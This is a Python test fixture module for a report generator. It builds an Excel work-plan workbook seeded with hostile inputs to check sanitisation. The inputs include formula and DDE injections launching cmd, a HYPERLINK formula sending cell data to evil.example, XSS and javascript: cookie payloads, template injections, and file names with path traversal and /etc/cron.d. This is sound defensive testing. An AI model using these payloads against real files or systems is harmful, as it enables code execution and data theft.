"""Text that means harm, and an office through whose every file it goes."""

import io
import re
import zipfile
from pathlib import Path

import openpyxl

from reportgen.files.text import clean_text

HOSTILE = {
    "command": "=cmd|'/C calc'!A0",
    "plus": "+1+cmd|'/C calc'!A0",
    "minus": "-2+3",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "hyperlink": '=HYPERLINK("http://evil.example/?a="&A1,"点我")',
    "dde": '=DDE("cmd";"/C calc";"a")',
    "web service": '=WEBSERVICE("http://evil.example/")',
    "tab before": "\t=1+1",
    "quote before": "'=1+1",
    "jinja expression": "{{ 7*7 }}{{ 标题 }}",
    "jinja block": "{% for a in [1,2] %}甲{% endfor %}{%p if 1 %}",
    "jinja comment": "{# 注 #}{%- raw -%}",
    "docxtpl escapes": "{_{ 1 }_}{_% if %_}",
    "docxtpl prefixes": "{%tr for a in b %}{{r 标题 }}{%tc endfor %}",
    "python format": "%s%n{0}{a.__class__}${HOME}$(id)`id`",
    "word tags": "</w:t></w:r></w:p><w:p><w:r><w:t>甲",
    "field": '<w:fldSimple w:instr="DDEAUTO c:\\\\windows\\\\calc.exe"/>',
    "ampersands": "A & B < C > D &amp; &lt; &#x41;",
    "cdata": "<![CDATA[甲]]>乙]]>",
    "comment": "<!-- 甲 --><?xml version='1.0'?><!DOCTYPE a>",
    "script": "<script>alert(1)</script><img src=x onerror=alert(1)>",
    "control": "甲\x00\x01\x07\x08\x0e\x1f\x7f乙",
    "breaks": "甲\x0b乙\x0c丙\r\n丁\r戊",
    "second controls": "甲\x80\x9b31m\x9d乙",
    "lone surrogates": "甲\ud800乙\udfff",
    "non-characters": "甲\ufffe乙\uffff",
    "private use": "甲\ue000\uf8ff乙",
    "bidi": "甲\u202ecod.xslx\u202c乙\u2066丙\u2069",
    "pipe": "|/C calc",
    "right to left": "שלום עולם، مرحبا بالعالم 甲",
    "zero width": "甲\u200b乙\u200c丙\u200d丁\ufeff戊\u2060己\u00ad庚",
    "line marks": "甲\u2028乙\u2029丙\x85丁",
    "rare": "𠮷𡈽𪚥㐂𬭎𰻞\U000313f9葛\U000e0100",
    "vertical tab escape": "甲_x000B_乙_x000c_丙_xD83D__xDE00_丁__x0041_",
    "template within": "{{'{{'}}7*7{{'}}'}}${{<%= 7*7 %>",
    "entity": "&#0;&#x8;&nbsp;&甲;&lt;w:t&gt;",
    "emoji": "👍🏽，𠮷野，𬭎",
    "combining": "e\u0301a\u0328\u0323",
    "link javascript": "javascript:alert(document.cookie)",
    "link file": "file:///etc/passwd",
    "link share": "\\\\server\\share\\a.exe",
    "link mail": "mailto:a@b.example?subject=甲",
    "excel escape": "甲_x000D_乙_x0041_丙_x0007_",
    "terminal": "\x1b[31m红\x1b[0m\x1b]0;标题\x07\x1b[2J",
    "sheet": "'填报'!A1:XFD1048576",
    "page header": "&P&N&\"黑体\"&G",
}  # fmt: skip
"""What units and plans might hold, by what it tries."""

NAMES = {
    "up": "../../外面",
    "absolute": "/etc/cron.d/甲",
    "drive": "C:\\甲\\乙",
    "share": "\\\\server\\share",
    "device": "CON",
    "device with ending": "nul.txt",
    "port": "COM1",
    "dots": "甲科...",
    "only dots": "..",
    "stars": '甲*?"<>|:科',
    "formula": "=1+1科",
    "command": "-rf 科",
    "jinja": "{{ 7*7 }}科",
    "tags": "</w:t>科&科",
    "bidi": "甲\u202excod.科",
    "escape": "乙\x1b[31m科",
    "nul": "丙\x00科",
    "zero width": "丁\u200b科",
    "case": "abc科",
    "case again": "ABC科",
    "long": "长" * 300 + "科",
    "script": "<script>alert(1)</script>科",
    "header codes": "&P&N科",
    "hidden": ".甲科",
    "ours": "~$甲科",
}
"""Names that somebody might give to a unit in the task list, by what they try."""

_UNWRITABLE = re.compile("[\x00-\x08\x0b\x0c\x0d\x0e-\x1f\ud800-\udfff\ufffe\uffff]")


def escaped(text):
    """As Excel writes it into a cell: what XML cannot hold by number, what looks like such a number escaped."""
    text = re.sub(r"_(?=x[0-9A-Fa-f]{4}_)", "_x005F_", text)
    return _UNWRITABLE.sub(lambda match: f"_x{ord(match[0]):04X}_", text)


def framed(name, text=None):
    """The text between two marks, so that nothing before or after it can be lost unseen."""
    return f"〔{name}起〕{HOSTILE[name] if text is None else text}〔{name}止〕"


def shown(text):
    """What a reader of any output sees of a text: cleaned, without regard to blanks."""
    return "".join(clean_text(text).split())


def put(cell, text):
    """Type a text into a cell as Excel stores it."""
    cell.value = escaped(text)
    cell.data_type = "s"


def saved(book):
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def plan_file(path: Path) -> Path:
    """A plan as a workbook, one requirement for each text."""
    book = openpyxl.Workbook()
    sheet = book.active
    put(sheet.cell(1, 1), "云岭市档案局2024年政务公开工作要点任务分解表")
    for column, title in enumerate(("序号", "工作任务", "具体要求", "责任单位"), 1):
        put(sheet.cell(2, column), title)
    for number, name in enumerate(HOSTILE, 1):
        texts = (str(number), "一、公开", f"做好{framed(name)}公开工作。", "办公室")
        for column, text in enumerate(texts, 1):
            put(sheet.cell(number + 2, column), text)
    path.write_bytes(saved(book))
    return path


def parts_of(content: bytes):
    """Name → bytes of every part, those of workbooks inside too."""
    found = {}
    with zipfile.ZipFile(io.BytesIO(content)) as package:
        for name in package.namelist():
            part = package.read(name)
            found[name] = part
            if name.endswith((".xlsx", ".docx")):
                found |= {f"{name}!{inner}": each for inner, each in parts_of(part).items()}
    return found
